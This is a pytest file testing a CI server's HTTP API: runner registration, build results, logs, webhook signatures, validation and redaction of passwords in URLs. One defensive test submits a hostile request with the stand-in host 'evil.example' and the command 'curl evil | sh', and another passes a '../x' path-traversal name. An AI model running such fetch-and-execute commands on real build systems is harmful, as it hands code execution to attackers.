"""The CI's HTTP API through the real Flask app: what runners, the observer and people see."""

import hashlib
import hmac
import xml.etree.ElementTree as ET

import pytest
from sqlalchemy import insert, select

from appliance.ci import schema
from appliance.ci.settings import CIRepoConfig
from tests.ci.conftest import admin_auth, commits_body

TOKEN_CALLS = [
    ("/api/ci/runners/r1/register", {}),
    ("/api/ci/runners/r1/next", None),
    ("/api/ci/runners/r1/heartbeat", {}),
    ("/api/ci/builds/1/attempts/1/log?offset=0", None),
    ("/api/ci/builds/1/attempts/1/result", {"runner": "r1", "status": "passed"}),
    ("/api/ci/commits", commits_body("a")),
    ("/api/ci/builds/1/cancel", None),
    ("/api/ci/rebuild", {"commit": "aaaa"}),
]


@pytest.mark.parametrize(("path", "body"), TOKEN_CALLS)
def test_runner_observer_and_changing_calls_need_the_token(ci_client, path, body):
    response = ci_client.post(path, json=body, headers={"Authorization": "Bearer wrong"})
    assert response.status_code == 401
    assert response.json["ok"] is False


def start_build(client, auth, runner="r1"):
    assert (
        client.post(f"/api/ci/runners/{runner}/register", json={"capacity": 1}, headers=auth).status_code
        == 200
    )
    response = client.post(f"/api/ci/runners/{runner}/next?wait=0", headers=auth)
    assert response.status_code == 200, response.json
    return response.json


def test_a_build_from_commit_to_result(ci_client, auth):
    assert ci_client.post("/api/ci/runners/r1/register", json={"labels": ["pi"]}, headers=auth).json == {
        "lease_seconds": 60.0,
        "heartbeat_seconds": 20.0,
        "wait_seconds": 25.0,
    }
    assert ci_client.post("/api/ci/runners/r1/next?wait=0", headers=auth).status_code == 204
    queued = ci_client.post("/api/ci/commits", json=commits_body("a", "b"), headers=auth).json
    assert [b["created"] for b in queued["builds"]] == [True, True]
    work = start_build(ci_client, auth)
    assert work["commit"] == "a" * 40 and work["command"] == "make test" and work["attempt"] == 1
    assert work["timeout_seconds"] == 3600.0 and work["silence_seconds"] == 600.0
    build_id = work["build"]

    log_url = f"/api/ci/builds/{build_id}/attempts/1/log"
    assert ci_client.post(log_url + "?offset=0", data=b"Ran 1 test\n", headers=auth).json == {"offset": 11}
    mismatch = ci_client.post(log_url + "?offset=0", data=b"Ran 1 test\n", headers=auth)
    assert mismatch.status_code == 409 and mismatch.json["offset"] == 11
    assert ci_client.post(log_url + "?offset=11", data=b"\xff: OK\n", headers=auth).json == {"offset": 17}
    beat = ci_client.post(
        "/api/ci/runners/r1/heartbeat", json={"builds": [{"build": build_id, "attempt": 1}]}, headers=auth
    )
    assert beat.json == {"builds": [{"build": build_id, "attempt": 1, "action": "continue"}]}

    result = {"runner": "r1", "status": "passed", "exit_code": 0, "counts": {"tests": 1, "failures": 0}}
    done = ci_client.post(f"/api/ci/builds/{build_id}/attempts/1/result", json=result, headers=auth)
    assert done.status_code == 200 and done.json["status"] == "passed"
    again = ci_client.post(f"/api/ci/builds/{build_id}/attempts/1/result", json=result, headers=auth)
    assert again.status_code == 200
    other = ci_client.post(
        f"/api/ci/builds/{build_id}/attempts/1/result", json={**result, "status": "failed"}, headers=auth
    )
    assert other.status_code == 409 and "is passed" in other.json["error"]

    build = ci_client.get(f"/api/ci/builds/{build_id}").json
    assert build["attempts"][0]["log_bytes"] == 17 and build["counts"]["tests"] == 1
    log = ci_client.get(f"/api/ci/builds/{build_id}/log?offset=11")
    assert log.data == b"\xff: OK\n" and log.headers["X-Log-Size"] == "17"
    assert ci_client.get(f"/api/ci/builds/{build_id}/log").data == b"Ran 1 test\n\xff: OK\n"
    assert [b["status"] for b in ci_client.get("/api/ci/builds?repo=app").json["builds"]] == [
        "queued",
        "passed",
    ]


def cc_projects(client):
    response = client.get("/cc.xml")
    assert response.mimetype == "application/xml"
    return {p.get("name"): p.attrib for p in ET.fromstring(response.data)}  # noqa: S314 - our own output


def test_cc_xml_has_one_project_per_repository_following_its_builds(ci_client, auth):
    assert cc_projects(ci_client)["open"] == {
        "name": "open",
        "activity": "Sleeping",
        "lastBuildStatus": "Unknown",
        "lastBuildLabel": "",
        "lastBuildTime": "",
        "webUrl": "http://localhost/ci",
    }
    ci_client.post("/api/ci/commits", json=commits_body("a", "b"), headers=auth)
    first = start_build(ci_client, auth)["build"]
    assert cc_projects(ci_client)["app"]["activity"] == "Building"
    ci_client.post(
        f"/api/ci/builds/{first}/attempts/1/result",
        json={"runner": "r1", "status": "failed", "exit_code": 1},
        headers=auth,
    )
    project = cc_projects(ci_client)["app"]
    assert project["activity"] == "Sleeping" and project["lastBuildStatus"] == "Failure"
    assert (
        project["lastBuildLabel"] == "aaaaaaaa" and project["webUrl"] == f"http://localhost/ci/builds/{first}"
    )
    assert project["lastBuildTime"].endswith("+00:00")
    second = ci_client.post("/api/ci/runners/r1/next?wait=0", headers=auth).json["build"]
    ci_client.post(
        f"/api/ci/builds/{second}/attempts/1/result", json={"runner": "r1", "status": "error"}, headers=auth
    )
    assert cc_projects(ci_client)["app"]["lastBuildStatus"] == "Exception"


def test_cancel_and_rebuild(ci_client, auth):
    ci_client.post("/api/ci/commits", json=commits_body("a"), headers=auth)
    cancelled = ci_client.post("/api/ci/builds/1/cancel", headers=auth)
    assert cancelled.json["status"] == "cancelled"
    assert ci_client.post("/api/ci/builds/1/cancel", headers=auth).status_code == 409
    assert ci_client.post("/api/ci/builds/99/cancel", headers=auth).status_code == 404
    rebuilt = ci_client.post("/api/ci/rebuild", json={"commit": "AAAAaa"}, headers=auth)
    assert (
        rebuilt.status_code == 201
        and rebuilt.json["trigger"] == "rebuild"
        and rebuilt.json["status"] == "queued"
    )
    assert ci_client.post("/api/ci/rebuild", json={"commit": "abc"}, headers=auth).status_code == 400


@pytest.mark.parametrize(
    ("path", "body", "message"),
    [
        (
            "/api/ci/commits",
            {"repo": {"name": "../x", "url": "u", "branch": "main"}, "commits": []},
            "repo.name",
        ),
        ("/api/ci/commits", {**commits_body("a"), "commits": [{"sha": "HEAD"}]}, "commits[0].sha"),
        ("/api/ci/commits", {"commits": []}, "repo is required"),
        ("/api/ci/runners/r1/register", {"capacity": "two"}, "capacity must be an integer"),
        ("/api/ci/runners/r1/heartbeat", {"builds": [{"build": 1}]}, "builds[0].attempt is required"),
        ("/api/ci/builds/1/attempts/1/result", {"runner": "r1", "status": "green"}, "status must be one of"),
        ("/api/ci/runners/bad%20name/register", {}, "runner 'bad name'"),
        ("/api/ci/builds/1/attempts/1/log", None, "offset is required"),
        ("/api/ci/runners/r1/next?wait=soon", None, "wait must be a number"),
    ],
)
def test_a_malformed_request_is_a_400_naming_the_field(ci_client, auth, path, body, message):
    response = ci_client.post(path, json=body, headers=auth)
    assert response.status_code == 400, response.json
    assert message in response.json["error"]


def test_a_runner_must_register_before_asking_for_work(ci_client, auth):
    response = ci_client.post("/api/ci/runners/ghost/next?wait=0", headers=auth)
    assert response.status_code == 404 and "not registered" in response.json["error"]


def sign(body: bytes, secret: str) -> str:
    return "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()


def test_the_webhook_checks_the_signature_and_wakes_the_observer(ci_app, ci_client):
    body = b'{"ref": "refs/heads/main"}'
    bus = ci_app.extensions["appliance"].bus
    with bus.subscribe(["ci.hook"]) as events:
        assert ci_client.post("/api/ci/hooks/nope", data=body).status_code == 404
        assert ci_client.post("/api/ci/hooks/app", data=body).status_code == 401
        wrong = ci_client.post(
            "/api/ci/hooks/app", data=body, headers={"X-Hub-Signature-256": sign(body, "x")}
        )
        assert wrong.status_code == 401
        assert events.get(timeout=0) is None
        signed = ci_client.post(
            "/api/ci/hooks/app", data=body, headers={"X-Hub-Signature-256": sign(body, "s3cret")}
        )
        assert signed.status_code == 202
        assert events.get(timeout=1).data == {"repo": "app"}
        # A repository without a secret takes any push notice: it only makes the observer look.
        assert ci_client.post("/api/ci/hooks/open", data=b"{}").status_code == 202
        assert events.get(timeout=1).data == {"repo": "open"}


def test_the_pages_show_repositories_builds_and_runners(ci_client, auth):
    ci_client.post("/api/ci/commits", json=commits_body("a", repo="open"), headers=auth)
    work = start_build(ci_client, auth)
    ci_client.post(
        f"/api/ci/builds/{work['build']}/attempts/1/log?offset=0", data=b"<b>hi</b>\n", headers=auth
    )
    index = ci_client.get("/ci").get_data(as_text=True)
    assert 'data-repo="app"' in index and 'data-repo="open"' in index and "aaaaaaaa" in index
    page = ci_client.get(f"/ci/builds/{work['build']}").get_data(as_text=True)
    assert 'data-log-size="10"' in page and "unittest discovery of tests/" in page
    assert "r1" in ci_client.get("/ci/runners").get_data(as_text=True)
    missing = ci_client.get("/ci/builds/42", headers={"Accept": "text/html"})
    assert missing.status_code == 404 and "no build 42" in missing.get_data(as_text=True)


# --- only the configuration says what runs ---------------------------------------------------------


def test_a_commits_request_cannot_change_what_a_repository_runs(ci_client, auth):
    evil = {"name": "app", "url": "http://evil.example/x.git", "branch": "evil", "command": "curl evil | sh"}
    body = {**commits_body("a"), "repo": evil}
    assert ci_client.post("/api/ci/commits", json=body, headers=auth).status_code == 200
    assert ci_client.post("/api/ci/commits", json=commits_body("b"), headers=auth).status_code == 200
    first, second = start_build(ci_client, auth), start_build(ci_client, auth)
    for work in (first, second):
        assert work["command"] == "make test"
        assert work["repo"] == {"name": "app", "url": "/srv/app.git", "branch": "main"}
    [app] = [r for r in ci_client.get("/api/ci/repos").json["repos"] if r["name"] == "app"]
    assert (app["url"], app["branch"], app["command"]) == ("/srv/app.git", "main", "make test")
    assert {b["branch"] for b in ci_client.get("/api/ci/builds").json["builds"]} == {"main"}


def test_commits_for_a_repository_not_configured_are_a_404_and_change_nothing(ci_client, auth):
    for repo in ("ghost", {"name": "ghost", "url": "/srv/ghost.git", "branch": "main", "command": "sh"}):
        response = ci_client.post("/api/ci/commits", json={**commits_body("a"), "repo": repo}, headers=auth)
        assert response.status_code == 404 and response.json["ok"] is False
        assert "ghost" in response.json["error"]
    assert ci_client.get("/api/ci/builds").json["builds"] == []
    assert [r["name"] for r in ci_client.get("/api/ci/repos").json["repos"]] == ["app", "open"]
    assert set(cc_projects(ci_client)) == {"app", "open"}
    assert "ghost" not in ci_client.get("/ci").get_data(as_text=True)


def test_a_repository_removed_from_the_configuration_leaves_every_listing(make_ci_app):
    both = [CIRepoConfig(name="app", url="/srv/app.git"), CIRepoConfig(name="old", url="/srv/old.git")]
    before = make_ci_app(repos=both)
    client, auth = before.test_client(), admin_auth(before)
    client.post("/api/ci/commits", json=commits_body("a", repo="old"), headers=auth)
    client.post("/api/ci/commits", json=commits_body("b", repo="old"), headers=auth)
    [old_running, old_queued] = [b["id"] for b in client.get("/api/ci/builds?repo=old").json["builds"]][::-1]
    assert start_build(client, auth)["build"] == old_running
    before.extensions["appliance"].dispatcher.stop()

    after = make_ci_app(repos=both[:1])
    client = after.test_client()
    client.post("/api/ci/commits", json=commits_body("c", repo="app"), headers=auth)
    assert client.post("/api/ci/commits", json=commits_body("d", repo="old"), headers=auth).status_code == 404
    assert [b["repo"] for b in client.get("/api/ci/builds").json["builds"]] == ["app"]
    assert client.get("/api/ci/builds?repo=old").json["builds"] == []
    assert [r["name"] for r in client.get("/api/ci/repos").json["repos"]] == ["app"]
    assert set(cc_projects(client)) == {"app"}
    assert 'data-repo="old"' not in client.get("/ci").get_data(as_text=True)
    # Its history stays, and what was queued will never run.
    cancelled = client.get(f"/api/ci/builds/{old_queued}").json
    assert cancelled["status"] == "cancelled" and "no longer in [[ci.repos]]" in cancelled["reason"]
    assert start_build(client, auth)["repo"]["name"] == "app"
    assert client.post("/api/ci/runners/r1/next?wait=0", headers=auth).status_code == 204
    assert client.post("/api/ci/rebuild", json={"commit": "aaaa"}, headers=auth).status_code == 404


def test_a_password_in_a_repository_url_is_never_shown(make_ci_app):
    url = "http://alice:PW@git.example/x.git"
    app = make_ci_app(repos=[CIRepoConfig(name="secret", url=url)])
    client, auth = app.test_client(), admin_auth(app)
    client.post("/api/ci/commits", json=commits_body("a", repo="secret"), headers=auth)
    [repo] = client.get("/api/ci/repos").json["repos"]
    assert repo["url"] == "http://alice:***@git.example/x.git"
    page = client.get("/ci").get_data(as_text=True)
    assert "alice:***@git.example/x.git" in page and "PW" not in page
    assert start_build(client, auth)["repo"]["url"] == url  # git needs it


# --- every request a 4xx or a success, every stored value readable --------------------------------


def post_raw(client, path, text, auth):
    return client.post(path, data=text.encode(), content_type="application/json", headers=auth)


@pytest.mark.parametrize("when", [1e20, 300_000_000_000, -62_135_596_801, 2**63])
def test_a_commit_time_out_of_range_is_a_400_and_queues_nothing(ci_client, auth, when):
    body = commits_body("a", "b")
    body["commits"][1]["committed_at"] = when
    response = ci_client.post("/api/ci/commits", json=body, headers=auth)
    assert response.status_code == 400 and "commits[1].committed_at" in response.json["error"]
    assert ci_client.get("/api/ci/builds").json["builds"] == []


@pytest.mark.parametrize(
    ("result", "message"),
    [
        ({"exit_code": 2**63}, "exit_code"),
        ({"exit_code": 2**31}, "exit_code"),
        ({"exit_code": -(2**63) - 1}, "exit_code"),
        ({"counts": {"tests": 2**63}}, "counts.tests"),
        ({"counts": {"tests": 1, "skipped": 2**64}}, "counts.skipped"),
        ({"command_seconds": 1e300}, "command_seconds"),
        ({"command_seconds": -1}, "command_seconds"),
    ],
)
def test_a_result_number_out_of_range_is_a_400_and_changes_nothing(ci_client, auth, result, message):
    ci_client.post("/api/ci/commits", json=commits_body("a"), headers=auth)
    build_id = start_build(ci_client, auth)["build"]
    body = {"runner": "r1", "status": "passed", **result}
    response = ci_client.post(f"/api/ci/builds/{build_id}/attempts/1/result", json=body, headers=auth)
    assert response.status_code == 400 and message in response.json["error"]
    assert ci_client.get(f"/api/ci/builds/{build_id}").json["status"] == "running"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "/api/ci/builds/1/attempts/1/result",
            '{"runner": "r1", "status": "passed", "command_seconds": Infinity}',
        ),
        ("/api/ci/builds/1/attempts/1/result", '{"runner": "r1", "status": "failed", "reason": "\\ud800"}'),
        (
            "/api/ci/commits",
            '{"repo": "app", "commits": [{"sha": "' + "a" * 40 + '", "message": "\\udfff"}]}',
        ),
        ("/api/ci/runners/r1/heartbeat", '{"builds": [{"build": 9223372036854775808, "attempt": 1}]}'),
    ],
)
def test_a_body_the_database_cannot_hold_is_a_400_and_changes_nothing(ci_client, auth, path, text):
    ci_client.post("/api/ci/commits", json=commits_body("b"), headers=auth)
    build_id = start_build(ci_client, auth)["build"]
    assert build_id == 1
    response = post_raw(ci_client, path, text, auth)
    assert response.status_code == 400 and response.json["ok"] is False
    builds = ci_client.get("/api/ci/builds").json["builds"]
    assert [(b["id"], b["status"]) for b in builds] == [(1, "running")]


TOO_BIG = 2**63


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", f"/api/ci/builds/{TOO_BIG}"),
        ("GET", f"/api/ci/builds/{TOO_BIG}/log"),
        ("POST", f"/api/ci/builds/{TOO_BIG}/cancel"),
        ("POST", f"/api/ci/builds/{TOO_BIG}/attempts/1/result"),
        ("POST", f"/api/ci/builds/1/attempts/{TOO_BIG}/log?offset=0"),
        ("GET", f"/ci/builds/{TOO_BIG}"),
    ],
)
def test_an_id_beyond_the_databases_integers_is_a_404(ci_client, auth, method, path):
    response = ci_client.open(path, method=method, json={"runner": "r1", "status": "passed"}, headers=auth)
    assert response.status_code == 404


@pytest.mark.parametrize("query", [f"offset={2**62}&limit={2**62}", f"attempt={2**63}", f"limit={2**64}"])
def test_a_log_query_beyond_the_databases_integers_is_a_400(ci_client, auth, query):
    ci_client.post("/api/ci/commits", json=commits_body("a"), headers=auth)
    start_build(ci_client, auth)
    response = ci_client.get(f"/api/ci/builds/1/log?{query}")
    assert response.status_code == 400 and response.json["ok"] is False


def test_a_stored_value_out_of_range_never_breaks_a_page(ci_app, ci_client, auth):
    """Values written before the protocol checked them (or by hand) render as null."""
    db = ci_app.extensions["appliance"].db
    with db.write() as conn:
        repo_id = conn.execute(select(schema.repos.c.id).where(schema.repos.c.name == "app")).scalar_one()
        build_id = conn.execute(
            insert(schema.builds).values(
                repo_id=repo_id, commit_sha="f" * 40, branch="main", author="Eve", message="future",
                committed_at=1e20, trigger="push", command="", status="failed", attempts=1,
                exit_code=2**63 - 1, tests=2**40, failures=0, errors=0, skipped=0,
                created_at=-62_135_596_801, started_at=float("-inf"), finished_at=300_000_000_000,
            )
        ).inserted_primary_key[0]  # fmt: skip
        conn.execute(
            insert(schema.attempts).values(
                build_id=build_id, number=1, runner="r1", status="failed", command_seconds=float("inf"),
                lease_expires=1e300, log_bytes=0, started_at=-1e300, finished_at=1e20,
            )
        )  # fmt: skip
    pages = (
        "/api/ci/builds",
        "/api/ci/repos",
        "/ci",
        "/cc.xml",
        f"/api/ci/builds/{build_id}",
        f"/ci/builds/{build_id}",
    )
    for path in pages:
        assert ci_client.get(path).status_code == 200, path
    build = ci_client.get(f"/api/ci/builds/{build_id}").json
    assert build["committed_at"] is build["created_at"] is build["finished_at"] is None
    assert build["duration_seconds"] is None and build["exit_code"] == 2**63 - 1
    [attempt] = build["attempts"]
    assert attempt["command_seconds"] is attempt["lease_expires"] is attempt["duration_seconds"] is None
    assert b"Infinity" not in ci_client.get(f"/api/ci/builds/{build_id}").data
    assert cc_projects(ci_client)["app"]["lastBuildTime"] == ""
